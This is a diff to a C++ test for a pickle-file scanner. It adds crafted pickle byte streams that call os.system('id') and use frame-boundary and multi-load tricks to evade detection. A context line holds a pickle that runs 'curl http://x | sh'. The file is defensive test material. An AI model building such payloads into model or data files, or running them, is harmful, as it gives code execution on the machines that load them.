@@ -80,6 +80,15 @@ TEST(JudgePickle, SeesThroughTheKnownTricks) {
        "ctorch._utils\n_rebuild_tensor_v2\n)RK\x00K\x01s."sv,
        "pickle-mutation"},
       {"cos\nsystem\n."sv, "pickle-dangerous-import"},
+      // From a file, what is left of a frame when a read crosses its end is lost.
+      {"\x80\x04\x95\x03\0\0\0\0\0\0\0cmmos\nsystem\n\x8c\x02id\x85R."sv, "pickle-dangerous-call"},
+      // pickle.py, and joblib with it, unpacks any iterable, and takes a line that the file's end cuts off.
+      {"cos\nsystem\n(S'id'\nlR."sv, "pickle-dangerous-call"},
+      {"(S'id'\nios\nsystemX"sv, "pickle-dangerous-call"},
+      // The next pickle.load() goes on behind the frame; read on from STOP, it is within text.
+      {"\x80\x04\x95\x15\0\0\0\0\0\0\0N.\x80\x04\x96\x24\0\0\0\0\0\0\0aaaaaaaa"
+       "\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.0000000000000."sv,
+       "pickle-dangerous-call"},
       {"cfoo.bar\nbaz\n(S'curl http://x | sh'\ntR."sv, "pickle-dangerous-call"},
   };
   for (const auto& [stream, rule] : cases) {
